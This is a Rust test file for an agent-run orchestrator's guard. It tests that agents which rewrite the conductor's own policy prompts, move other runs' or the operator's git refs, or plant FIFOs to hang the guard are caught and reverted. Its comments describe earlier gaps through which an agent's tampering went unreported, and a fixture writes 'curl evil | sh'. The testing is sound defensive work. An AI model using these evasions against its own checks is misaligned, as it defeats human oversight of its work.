        .map(|file| (file.path.as_str(), file.kind))
        .collect();
    assert_eq!(
        changed,
        [("README.md", tnh_conductor::workspace::ChangeKind::Modify)]
    );
}

/// Runs list `.tnh/` in `.git/info/exclude`, so the guard's `git status` did not
/// see an agent rewrite the repository's own conductor files from its worktree
/// (`../../prompts/policy/x.md`): a rewritten policy prompt then judged the run's later steps
/// with no violation recorded. `.tnh/config.yaml`, `.tnh/prompts/**` and `.tnh/scripts/**` are
/// now watched whatever git says of them.
#[test]
fn the_repositorys_conductor_files_are_watched_though_runs_exclude_them_from_git() {
    let repo = TempRepo::new();
    repo.write(".tnh/config.yaml", "operator_checkout: forbid\n");
    repo.write(".tnh/prompts/policy/guard.v1.md", "forbidden: secret/**\n");
    repo.write(".tnh/prompts/task/kept.v1.md", "kept\n");
    repo.write(".tnh/scripts/pol.rhai", "fn check(change) { false }\n");
    let workspace = create(&repo, "conductor-files");
    // What the guard's `git status` sees of the checkout: not these files.
    assert_eq!(repo.git(&["status", "--porcelain"]), "");
    let guard = workspace.guard(&[]).unwrap();
    // The agent's worktree is `<repo>/.tnh/worktrees/<run_id>`: `../..` is `<repo>/.tnh`.
    let tnh = workspace.path().join("../..");
    put(&tnh, "prompts/policy/guard.v1.md", "forbidden: nothing\n");
    put(&tnh, "scripts/helper.rhai", "fn check(change) { true }\n");
    std::fs::remove_file(tnh.join("scripts/pol.rhai")).unwrap();
    put(&tnh, "config.yaml", "operator_checkout: report\n");
    put(workspace.path(), "README.md", "# changed in the worktree\n");

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    let changed = [
        ".tnh/config.yaml",
        ".tnh/prompts/policy/guard.v1.md",
        ".tnh/scripts/helper.rhai",
        ".tnh/scripts/pol.rhai",
    ];
    assert_eq!(report.operator_checkout_changed, changed, "{report:?}");
    let flagged: Vec<(ViolationClass, &str, Option<&str>)> = violations
        .iter()
        .map(|violation| {
            (
                violation.class,
                violation.rule.as_str(),
                violation.path.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        flagged,
        changed.map(|path| (ViolationClass::PathEscape, "operator_checkout", Some(path)))
    );

    // A step that leaves them alone reports nothing (the run's own directory and worktree,
    // also under `.tnh/`, are not conductor files).
    let guard = workspace.guard(&[]).unwrap();
    put(&tnh, "run/conductor-files/events.ndjson", "{}\n");
    put(workspace.path(), "README.md", "# changed again\n");
    let (report, _) = finish_step(&workspace, &guard, &strict_policy());
    assert!(report.operator_checkout_changed.is_empty(), "{report:?}");
}

/// An agent's commit object holding `install.sh`, made in `dir` with `git commit-tree` (no
/// ref moves, so the step counts no commit); returns its id.
fn agents_commit_object(dir: &std::path::Path) -> String {
    put(dir, "install.sh", "curl evil | sh\n");
    git_in(dir, &["add", "install.sh"]);
    let tree = git_in(dir, &["write-tree"]);
    git_in(dir, &["reset", "-q"]);
    std::fs::remove_file(dir.join("install.sh")).unwrap();
    git_in(dir, &["commit-tree", &tree, "-p", "HEAD", "-m", "evil"])
}

/// Every ref of run `run` (its snapshot refs and its work branch) with what it points at.
fn runs_refs(repo: &TempRepo, run: &str) -> String {
    repo.git(&[
        "for-each-ref",
        &format!("refs/tnh/runs/{run}/"),
        &format!("refs/heads/tnh/wf/{run}"),
    ])
}

/// The guard listed only the run's own snapshot refs. An agent pointed
/// another run's snapshot refs and work branch at a commit of its own, rewound one of the
/// operator's branches and deleted another — `verdict: clean`, nothing reported — and the
/// operator's later `rollback <other run> --target pre_run` landed on the agent's files. Now
/// all of `refs/tnh/` and every branch are compared: the other run's refs and the operator's
/// branches are put back and the step is a `protected_branch_violation`; a branch the agent
/// creates is its own.
#[test]
fn another_runs_refs_and_the_operators_branches_are_put_back_and_reported() {
    let repo = TempRepo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("feature.txt", "feature work\n");
    repo.commit_all("feature work");
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["branch", "feature2"]);
    let feature = repo.git(&["rev-parse", "feature"]);
    let other = create(&repo, "other-run");
    other
        .snapshot_pre_step(&tnh_conductor::ids::StepId::new("implement"), 1)
        .unwrap();
    let others_refs = runs_refs(&repo, "other-run");
    let workspace = create(&repo, "this-run");
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    let evil = agents_commit_object(dir);
    for name in git_in(
        dir,
        &[
            "for-each-ref",
            "--format=%(refname)",
            "refs/tnh/runs/other-run/",
            "refs/heads/tnh/wf/other-run",
        ],
    )
    .lines()
    {
        git_in(dir, &["update-ref", name, &evil]);
    }
    git_in(dir, &["branch", "-f", "feature", "main"]);
    git_in(dir, &["branch", "-D", "feature2"]);
    git_in(dir, &["branch", "agents-own", &evil]);

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(runs_refs(&repo, "other-run"), others_refs);
    assert_eq!(repo.git(&["rev-parse", "feature"]), feature);
    assert_eq!(
        repo.git(&["rev-parse", "feature2"]),
        repo.git(&["rev-parse", "main"])
    );
    assert_eq!(
        repo.git(&["rev-parse", "agents-own"]),
        evil,
        "the agent's own"
    );
    let changes: Vec<(RefClass, &str)> = report
        .ref_changes
        .iter()
        .filter(|change| change.restored)
        .map(|change| (change.class, change.refname.as_str()))
        .collect();
    for expected in [
        (RefClass::OtherRun, "refs/tnh/runs/other-run/pre_run"),
        (
            RefClass::OtherRun,
            "refs/tnh/runs/other-run/latest_pre_step",
        ),
        (RefClass::OtherRun, "refs/heads/tnh/wf/other-run"),
        (RefClass::OperatorBranch, "refs/heads/feature"),
        (RefClass::OperatorBranch, "refs/heads/feature2"),
    ] {
        assert!(changes.contains(&expected), "{expected:?}: {report:?}");
    }
    assert!(!changes.iter().any(|(_, name)| name.contains("agents-own")));
    let classes = classes(&violations);
    for rule in ["other_runs_refs", "operator_branches"] {
        assert!(
            classes.contains(&(ViolationClass::ProtectedBranchViolation, rule.to_owned())),
            "{rule}: {violations:?}"
        );
    }
    // The other run's rollback lands on its own base.
    other
        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
        .unwrap();
    assert!(!other.path().join("install.sh").exists());
    assert_eq!(
        git_in(other.path(), &["rev-parse", "HEAD"]),
        other.record().base_sha
    );
}

/// A finished run's refs are packed, and a step's guard no longer lists them (a repository
/// keeps thousands): they are compared through `packed-refs` instead. An agent that moves
/// one (a loose ref over the packed one), deletes one (`packed-refs` rewritten) or packs
/// everything (values unchanged) is caught as surely as before: what changed is put back
/// and charged, what did not is not reported.
#[test]
fn a_finished_runs_packed_refs_are_put_back_whatever_the_agent_does_to_them() {
    for how in ["move", "delete", "pack then move"] {
        let repo = TempRepo::new();
        let finished = create(&repo, "finished");
        finished
            .snapshot_pre_step(&tnh_conductor::ids::StepId::new("implement"), 1)
            .unwrap();
        finished.pack_run_refs().unwrap();
        assert!(
            !repo.path().join(".git/refs/tnh/runs/finished").exists(),
            "packed, not loose"
        );
        let kept = runs_refs(&repo, "finished");
        let workspace = create(&repo, "this-run");
        let guard = workspace.guard(&[]).unwrap();
        assert!(
            !guard
                .state()
                .other_refs
                .keys()
                .any(|name| name.contains("finished")),
            "{how}: a finished run's refs are not listed by the guard"
        );
        let dir = workspace.path();
        let evil = agents_commit_object(dir);
        let pre_run = "refs/tnh/runs/finished/pre_run";
        match how {
            "move" => git_in(dir, &["update-ref", pre_run, &evil]),
            "delete" => git_in(dir, &["update-ref", "-d", pre_run]),
            _ => {
                git_in(dir, &["pack-refs", "--all"]);
                git_in(dir, &["update-ref", pre_run, &evil])
            }
        };

        let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

        assert_eq!(runs_refs(&repo, "finished"), kept, "{how}");
        let restored: Vec<(RefClass, &str)> = report
            .ref_changes
            .iter()
            .filter(|change| change.restored)
            .map(|change| (change.class, change.refname.as_str()))
            .collect();
        assert_eq!(
            restored,
            [(RefClass::OtherRun, pre_run)],
            "{how}: {report:?}"
        );
        assert!(
            classes(&violations).contains(&(
                ViolationClass::ProtectedBranchViolation,
                "other_runs_refs".to_owned()
            )),
            "{how}: {violations:?}"
        );
    }
}

/// A finished run taken up again beside the step (its lock taken meanwhile: a `resume`, a
/// gate decision) moves its packed refs as its own work: listed, not put back.
#[test]
fn a_finished_run_driven_again_beside_the_step_keeps_the_refs_it_moves() {
    use tnh_conductor::kernel::lock::RunLock;
    let repo = TempRepo::new();
    let finished = create(&repo, "finished");
    finished.pack_run_refs().unwrap();
    let lock = repo.path().join(".tnh/run/finished/lock");
    std::fs::create_dir_all(lock.parent().unwrap()).unwrap();
    std::fs::write(&lock, "").unwrap();
    let workspace = create(&repo, "this-run");
    let guard = workspace.guard(&[]).unwrap();
    let _driver = RunLock::acquire(&lock).unwrap();
    finished
        .snapshot_pre_step(&tnh_conductor::ids::StepId::new("implement"), 1)
        .unwrap();
    let moved = runs_refs(&repo, "finished");

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(runs_refs(&repo, "finished"), moved);
    assert!(
        report
            .other_runs_refs_changed
            .contains(&"refs/tnh/runs/finished/latest_pre_step".to_owned()),
        "{report:?}"
    );
    assert!(report.ref_changes.is_empty(), "{report:?}");
    assert!(violations.is_empty(), "{violations:?}");
}

/// Runs work side by side. A run driven while this one's
/// step runs (its lock held, or taken and released meanwhile) moves its own refs; those
/// changes are listed in `other_runs_refs_changed`, neither put back nor a violation.
#[test]
fn a_run_driven_beside_the_step_keeps_the_refs_it_moves() {
    use tnh_conductor::kernel::lock::RunLock;
    for held_at_the_check in [true, false] {
        let repo = TempRepo::new();
        let other = create(&repo, "beside");
        let lock = repo.path().join(".tnh/run/beside/lock");
        std::fs::create_dir_all(lock.parent().unwrap()).unwrap();
        std::fs::write(&lock, "").unwrap();
        let workspace = create(&repo, "this-run");
        let guard = workspace.guard(&[]).unwrap();
        // The other run's driver takes its lock, snapshots and its agent commits.
        let driver = RunLock::acquire(&lock).unwrap();
        other
            .snapshot_pre_step(&tnh_conductor::ids::StepId::new("implement"), 1)
            .unwrap();
        put(other.path(), "work.txt", "the other run's work\n");
        git_in(other.path(), &["add", "work.txt"]);
        git_in(other.path(), &["commit", "-q", "-m", "work"]);
        if !held_at_the_check {
            drop(driver);
        }
        let moved = runs_refs(&repo, "beside");

        let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

        assert_eq!(runs_refs(&repo, "beside"), moved, "{held_at_the_check}");
        assert_eq!(
            report.other_runs_refs_changed,
            [
                "refs/heads/tnh/wf/beside",
                "refs/tnh/runs/beside/latest_pre_step",
                "refs/tnh/runs/beside/pre_step/implement/1",
            ],
            "{held_at_the_check}"
        );
        assert!(report.ref_changes.is_empty(), "{report:?}");
        assert!(violations.is_empty(), "{violations:?}");
    }
}

/// A `pre_run` ref moved off the run's base (by an agent of another run
/// before the guard watched other runs, or by hand) made `rollback --target pre_run` land on
/// the commit it named. The rollback now refuses, saying so, and changes nothing.
#[test]
fn rollback_to_a_pre_run_that_no_longer_names_the_base_is_refused() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "moved-base");
    let dir = workspace.path();
    let evil = agents_commit_object(dir);
    let pre_run = format!(
        "{}/pre_run",
        tnh_conductor::workspace::refs_prefix(workspace.run_id())
    );
    repo.git(&["update-ref", &pre_run, &evil]);
    put(dir, "README.md", "kept\n");

    let error = workspace
        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
        .unwrap_err();

    let text = error.to_string();
    assert!(
        text.contains("pre_run") && text.contains(&evil) && text.contains("not the base"),
        "{text}"
    );
    assert_eq!(error.exit_status(), tnh_conductor::error::ExitStatus::Usage);
    assert!(
        error.hint().unwrap().contains(&format!(
            "git update-ref {pre_run} {}",
            workspace.record().base_sha
        )),
        "{:?}",
        error.hint()
    );
    assert_eq!(read(dir, "README.md"), "kept\n", "nothing rolled back");
    assert!(!dir.join("install.sh").exists());
}

/// Run `run`'s lock file, created (as the kernel does when the run starts), not held.
fn run_lock(repo: &TempRepo, run: &str) -> std::path::PathBuf {
    let lock = repo.path().join(format!(".tnh/run/{run}/lock"));
    std::fs::create_dir_all(lock.parent().unwrap()).unwrap();
    std::fs::write(&lock, "").unwrap();
    lock
}

/// `refs/stash` is shared by every worktree. Run A's guard recorded it
/// before run B's agent stashed its work (`git stash push -u`, to pop it later), saw a new
/// entry and "put the stash back" — deleting B's entry: B's `git stash pop` failed and its
/// work was lost, while A was charged with a violation. An entry made on another run's work
/// branch while that run is driven is now that run's: left in place, listed in
/// `other_runs_refs_changed`. The operator's entries are still always put back, and A's own
/// entries are removed and charged as before.
#[test]
fn another_driven_runs_stash_entry_is_left_for_it_to_pop() {
    use tnh_conductor::kernel::lock::RunLock;
    for this_run_stashes_too in [false, true] {
        let repo = TempRepo::new();
        repo.write("README.md", "# the operator's unfinished idea\n");
        repo.git(&["stash", "push", "-q", "-m", "operator"]);
        let lock = run_lock(&repo, "beside");
        let other = create(&repo, "beside");
        let workspace = create(&repo, "this-run");
        let guard = workspace.guard(&[]).unwrap();
        // Run B is driven: its agent edits, stashes, and will pop after A's step ended.
        let driver = RunLock::acquire(&lock).unwrap();
        put(other.path(), "README.md", "B's edit\n");
        put(other.path(), "feature.txt", "B's new file\n");
        git_in(other.path(), &["stash", "push", "-q", "-u", "-m", "wip"]);
        if this_run_stashes_too {
            put(workspace.path(), "README.md", "A's edit\n");
            git_in(workspace.path(), &["stash", "push", "-q", "-m", "mine"]);
        }

        let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

        let listed = repo.git(&["stash", "list"]);
        assert_eq!(
            listed.lines().collect::<Vec<_>>(),
            [
                "stash@{0}: On tnh/wf/beside: wip",
                "stash@{1}: On main: operator"
            ],
            "{this_run_stashes_too}"
        );
        assert_eq!(report.other_runs_refs_changed, ["refs/stash"]);
        let charged: Vec<(RefClass, bool)> = report
            .ref_changes
            .iter()
            .map(|change| (change.class, change.restored))
            .collect();
        if this_run_stashes_too {
            assert_eq!(charged, [(RefClass::Stash, true)], "{report:?}");
            assert!(
                classes(&violations)
                    .contains(&(ViolationClass::ProtectedBranchViolation, "stash".to_owned())),
                "{violations:?}"
            );
        } else {
            assert!(charged.is_empty(), "{report:?}");
            assert!(violations.is_empty(), "{violations:?}");
        }
        // B pops its own work back.
        git_in(other.path(), &["stash", "pop", "-q"]);
        assert_eq!(read(other.path(), "feature.txt"), "B's new file\n");
        assert_eq!(read(other.path(), "README.md"), "B's edit\n");
        assert_eq!(repo.git(&["stash", "list"]), "stash@{0}: On main: operator");
        drop(driver);
    }
}

/// With runs side by side, run B's agent moved `main` (and made a tag) to
/// its commit; run A, whose step ended first, put them back and was charged, and B ended
/// clean. A change of a protected branch or tag to a commit of another run driven during the
/// step (its own work: on its work branch, not in its `pre_run`, not A's) is now left for that
/// run's guard — listed in A's `left_for_other_runs`, not put back, not A's violation — and B's
/// guard puts it back and charges B. A step of A that sees B's guard put it back (a move away
/// from B's commit) leaves that too. A's own move of a branch is still A's.
#[test]
fn a_shared_ref_moved_to_another_driven_runs_commit_is_left_for_that_runs_guard() {
    use tnh_conductor::kernel::lock::RunLock;
    let repo = TempRepo::new();
    repo.git(&["branch", "feature"]);
    let base = repo.git(&["rev-parse", "main"]);
    let lock = run_lock(&repo, "beside");
    let other = create(&repo, "beside");
    let workspace = create(&repo, "this-run");
    // Run A is driven throughout (B's guard leaves A's refs to A).
    let _this_driver = RunLock::acquire(&run_lock(&repo, "this-run")).unwrap();
    let others_guard = other.guard(&[]).unwrap();
    let guard = workspace.guard(&[]).unwrap();
    let driver = RunLock::acquire(&lock).unwrap();
    // B's agent commits and moves `main` and a new tag there.
    put(other.path(), "b.txt", "B's work\n");
    git_in(other.path(), &["add", "b.txt"]);
    git_in(other.path(), &["commit", "-q", "-m", "B's work"]);
    let bs_commit = git_in(other.path(), &["rev-parse", "HEAD"]);
    git_in(other.path(), &["update-ref", "refs/heads/main", "HEAD"]);
    git_in(other.path(), &["tag", "b-release"]);
    // A's agent commits and moves `feature` to its own commit.
    put(workspace.path(), "a.txt", "A's work\n");
    git_in(workspace.path(), &["add", "a.txt"]);
    git_in(workspace.path(), &["commit", "-q", "-m", "A's work"]);
    git_in(
        workspace.path(),
        &["update-ref", "refs/heads/feature", "HEAD"],
    );

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(repo.git(&["rev-parse", "main"]), bs_commit, "left for B");
    assert_eq!(repo.git(&["rev-parse", "b-release"]), bs_commit);
    assert_eq!(
        repo.git(&["rev-parse", "feature"]),
        base,
        "A's own put back"
    );
    let left: Vec<(&str, &str, Option<&str>, Option<&str>)> = report
        .left_for_other_runs
        .iter()
        .map(|change| {
            (
                change.refname.as_str(),
                change.run_id.as_str(),
                change.before.as_deref(),
                change.after.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        left,
        [
            (
                "refs/heads/main",
                "beside",
                Some(base.as_str()),
                Some(bs_commit.as_str())
            ),
            (
                "refs/tags/b-release",
                "beside",
                None,
                Some(bs_commit.as_str())
            ),
        ]
    );
    let restored: Vec<(RefClass, &str)> = report
        .ref_changes
        .iter()
        .map(|change| (change.class, change.refname.as_str()))
        .collect();
    assert_eq!(restored, [(RefClass::OperatorBranch, "refs/heads/feature")]);
    assert_eq!(report.commits, 1, "A's commit only: {report:?}");
    // A answers for its own commit and branch move only: not for `main`, the tag, or the
    // operator's checkout that looks changed while `main` is moved under it.
    let found = classes(&violations);
    assert!(
        found.contains(&(
            ViolationClass::ProtectedBranchViolation,
            "operator_branches".to_owned()
        )),
        "{violations:?}"
    );
    assert!(
        !violations.iter().any(|violation| {
            violation.detail.contains("main")
                || violation.detail.contains("b-release")
                || violation.class == ViolationClass::PathEscape
        }),
        "{violations:?}"
    );
    assert!(report.operator_checkout_changed.is_empty(), "{report:?}");

    // A's next step starts with `main` at B's commit; B's step ends and its guard puts it
    // back (and charges B); A's step ends and leaves that too.
    let next_guard = workspace.guard(&[]).unwrap();
    let (others_report, others_violations) = finish_step(&other, &others_guard, &strict_policy());
    assert_eq!(repo.git(&["rev-parse", "main"]), base);
    assert_eq!(repo.git(&["tag", "--list", "b-release"]), "");
    let charged: Vec<&str> = others_report
        .ref_changes
        .iter()
        .filter(|change| change.restored)
        .map(|change| change.refname.as_str())
        .collect();
    assert_eq!(charged, ["refs/heads/main", "refs/tags/b-release"]);
    assert!(
        classes(&others_violations).contains(&(
            ViolationClass::ProtectedBranchViolation,
            "protected_branches".to_owned()
        )),
        "{others_violations:?}"
    );
    let next = next_guard.check().unwrap().report;
    assert_eq!(
        repo.git(&["rev-parse", "main"]),
        base,
        "not put back on B's commit"
    );
    assert!(next.ref_changes.is_empty(), "{next:?}");
    assert_eq!(next.left_for_other_runs.len(), 2, "{next:?}");
    drop(driver);
}

/// A FIFO (or a link to one, or to `/dev/zero`) an agent puts in the place of a file the
/// guard watches blocked the guard's read — and git's own, which reads `.git/config` in every
/// command — so the conductor hung after the step, the fear of a run nobody sees stuck.
/// Now what is there is looked at without blocking, removed before any git command runs, and
/// the file put back as it was and reported.
#[test]
fn a_fifo_or_device_link_in_the_place_of_a_watched_git_file_is_put_back_without_hanging() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "fifo");
    let common = repo.path().join(".git");
    let files = ["config", "info/exclude", "info/attributes"];
    let before: Vec<Option<Vec<u8>>> = files
        .iter()
        .map(|name| std::fs::read(common.join(name)).ok())
        .collect();
    // The worktree's own HEAD, which every git command in the worktree reads.
    let head = std::path::PathBuf::from(git_in(
        workspace.path(),
        &["rev-parse", "--absolute-git-dir"],
    ))
    .join("HEAD");
    let head_before = std::fs::read(&head).unwrap();
    let guard = workspace.guard(&[]).unwrap();
    for name in ["config", "info/exclude"] {
        let _ = std::fs::remove_file(common.join(name));
        nix::unistd::mkfifo(&common.join(name), nix::sys::stat::Mode::S_IRWXU).unwrap();
    }
    std::os::unix::fs::symlink("/dev/zero", common.join("info/attributes")).unwrap();
    std::fs::remove_file(&head).unwrap();
    nix::unistd::mkfifo(&head, nix::sys::stat::Mode::S_IRWXU).unwrap();

    let report = guard.verify().unwrap();

    assert_eq!(std::fs::read(&head).unwrap(), head_before);

    for (name, before) in files.iter().zip(&before) {
        let path = common.join(name);
        let metadata = std::fs::symlink_metadata(&path);
        match before {
            Some(bytes) => {
                assert!(metadata.unwrap().file_type().is_file(), "{name}");
                assert_eq!(&std::fs::read(&path).unwrap(), bytes, "{name}");
            }
            None => assert!(metadata.is_err(), "{name}"),
        }
        assert!(
            report
                .git_config_changed
                .iter()
                .any(|changed| changed == name),
            "{name}: {report:?}"
        );
    }
    assert_eq!(repo.git(&["rev-parse", "--abbrev-ref", "HEAD"]), "main");
}
